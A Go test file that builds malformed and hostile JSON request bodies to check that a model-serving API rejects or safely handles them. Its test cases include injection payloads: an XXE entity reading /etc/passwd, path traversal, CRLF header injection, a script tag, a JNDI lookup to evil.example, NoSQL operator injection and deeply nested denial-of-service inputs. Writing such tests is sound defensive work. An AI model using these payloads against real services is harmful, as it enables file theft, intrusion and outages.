package serving_test

import (
	"fmt"
	"strings"
)

// hostileBodies are bodies that are no request.
func hostileBodies() (list []hostile) {
	member := func(m string) string { return `{"model":"auto","messages":[],` + m + `}` }
	add := func(name, body, want string) {
		list = append(list, hostile{name: "body: " + name, raw: post(body), want: want})
	}
	for name, body := range map[string]string{
		"empty": "", "spaces": "  \n\t ", "a word": "hello", "half an object": `{"model":"auto"`, "half a string": `{"model":"au`, "half an escape": `{"model":"a\`, "half a key": `{"mo`,
		"half a list": `{"model":"auto","messages":[`, "half a number": `{"model":"auto","n":-`, "half a word": `{"model":"auto","stream":tru`, "no value": `{"model":}`, "no key": `{:"auto"}`,
		"no colon": `{"model" "auto"}`, "no comma": `{"model":"auto" "n":1}`, "two commas": `{"model":"auto",,"n":1}`, "a last comma": `{"model":"auto",}`, "a key without quotes": `{model:"auto"}`,
		"single quotes": `{'model':'auto'}`, "a comment": `{"model":"auto"/* x */}`, "a line comment": "{\"model\":\"auto\"} // x", "NaN": member(`"n":NaN`), "infinity": member(`"n":Infinity`),
		"a leading zero": member(`"n":01`), "a hexadecimal number": member(`"n":0x10`), "a plus": member(`"n":+1`), "a bare point": member(`"n":.5`), "a last point": member(`"n":5.`), "half an exponent": member(`"n":1e`),
		"a bad escape": member(`"x":"\q"`), "a short escape": member(`"x":"\u12"`), "a line end in a string": member("\"x\":\"a\nb\""), "a null byte in a string": member("\"x\":\"a\x00b\""), "a null byte": "\x00", "a control in a string": member("\"x\":\"\x01\""),
		"a null byte at the end": ask + "\x00", "two objects": ask + ask, "an object and more": ask + "]", "a mark of byte order": "\xef\xbb\xbf" + ask, "UTF-16": utf16(ask), "Python's literals": `{"model":"auto","stream":True}`, "undefined": member(`"x":undefined`),
		"XML": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`, "a form": "model=auto&messages=x", "compressed bytes": "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
		"bytes of every value": everyByte(), "brackets that cross": `{"model":"auto","x":[}]`, "a closing bracket": "]", "braces alone": strings.Repeat("{", 1000),
		"lists 100,000 deep": strings.Repeat("[", 100_000), "lists 10,001 deep, closed": member(`"x":` + nested("[", "]", 10_001)), "objects 300,000 deep": strings.Repeat(`{"a":`, 200_000), "objects 10,001 deep, closed": `{"model":"auto","x":` + strings.Repeat(`{"a":`, 10_001) + "1" + strings.Repeat("}", 10_002),
		"a string that is not UTF-8": member("\"x\":\"\xff\xfe\""), "a key that is not UTF-8": member("\"\xc3\x28\":1"), "an overlong form": member("\"x\":\"\xc0\xaf\""), "a surrogate as bytes": member("\"x\":\"\xed\xa0\x80\""), "a cut character": member("\"x\":\"\xe2\x82\""), "beyond Unicode": member("\"x\":\"\xf5\x80\x80\x80\""),
	} {
		add(name, body, noBody)
	}
	const wrong, none = "400 invalid_type", "404 model_not_found"
	for name, c := range map[string][2]string{
		"null": {"null", wrong}, "a number": {"7", wrong}, "an enormous number": {strings.Repeat("9", 100_000), wrong}, "a string": {`"model"`, wrong}, "a list": {"[]", wrong}, "true": {"true", wrong},
		"a list of requests": {"[" + ask + "]", wrong}, "an empty object": {"{}", "400 missing_model"}, "no model": {`{"messages":[]}`, "400 missing_model"}, "an empty model": {`{"model":""}`, "400 missing_model"},
		"a model of null": {`{"model":null}`, wrong}, "a model of a number": {`{"model":7}`, wrong}, "a model of a list": {`{"model":["auto"]}`, wrong}, "a model of an object": {`{"model":{"name":"auto"}}`, wrong},
		"a model of 500 KB": {`{"model":"` + strings.Repeat("x", 500<<10) + `"}`, none}, "a model with a line end": {`{"model":"auto\r\nX-Injected: yes"}`, none}, "a model with a null byte": {`{"model":"auto\u0000"}`, none},
		"a model that is a path": {`{"model":"../../etc/passwd"}`, none}, "a model with markup": {`{"model":"<script>alert(1)</script>"}`, none}, "a model in capitals": {`{"model":"AUTO"}`, none}, "a model with half a pair": {`{"model":"\ud800"}`, none},
		"a model that looks the same": {`{"model":"аuto"}`, none}, "two models, the second none": {`{"model":"auto","model":"none"}`, none}, "two models, the second a number": {`{"model":"auto","model":1}`, wrong}, "a key in capitals": {`{"MODEL":"auto"}`, "400 missing_model"},
		"metadata of a number": {member(`"metadata":7`), wrong}, "metadata of a list": {member(`"metadata":[]`), wrong}, "2 MB": {strings.Repeat(" ", 2<<20) + ask, tooMuch},
		// Metadata is the application's own.
		"a task of a number": {member(`"metadata":{"task":7}`), served200}, "a task that is none": {member(`"metadata":{"task":"none"}`), served200},
		"a task of 500 KB": {member(`"metadata":{"task":"` + strings.Repeat("x", 500<<10) + `"}`), served200},
		// What JSON allows is the replica's business, and passes.
		"two models that agree": {`{"model":"auto","model":"auto"}`, served200}, "a model with escapes": {`{"\u006dodel":"\u0061uto"}`, served200}, "an enormous number of tokens": {member(`"max_tokens":` + strings.Repeat("9", 10_000)), served200},
		"a number beyond numbers": {member(`"n":1e999999999`), served200}, "100,000 keys": {member(`"x":{` + strings.TrimSuffix(strings.Repeat(`"a":1,`, 100_000), ",") + `}`), served200}, "a prototype": {member(`"__proto__":{"admin":true},"constructor":{}`), served200},
		"lists 1,000 deep": {member(`"x":` + nested("[", "]", 1000)), served200}, "a prompt of 900 KB": {`{"model":"auto","prompt":"` + strings.Repeat("x ", 450<<10) + `"}`, served200},
		"messages 5,000 deep": {`{"model":"auto","messages":` + nested("[", "]", 5000) + `}`, served200}, "words of a template": {member(`"x":"{{7*7}} ${jndi:ldap://evil.example} %s%n"`), served200},
	} {
		add(name, c[0], c[1])
	}
	return append(list, hostile{
		name: "body: a decision asked with what is none",
		raw:  strings.Replace(post(`{"task":{"$ne":null}}`), chat, "/v1/gearshift/route", 1), want: wrong,
	}, hostile{
		name: "body: a decision asked with an unknown member",
		raw:  strings.Replace(post(`{"admin":true}`), chat, "/v1/gearshift/route", 1), want: "400 unknown_member",
	})
}

func nested(open, shut string, depth int) string {
	return strings.Repeat(open, depth) + strings.Repeat(shut, depth)
}

func utf16(text string) string {
	out := "\xff\xfe"
	for _, b := range []byte(text) {
		out += fmt.Sprintf("%c\x00", b)
	}
	return out
}
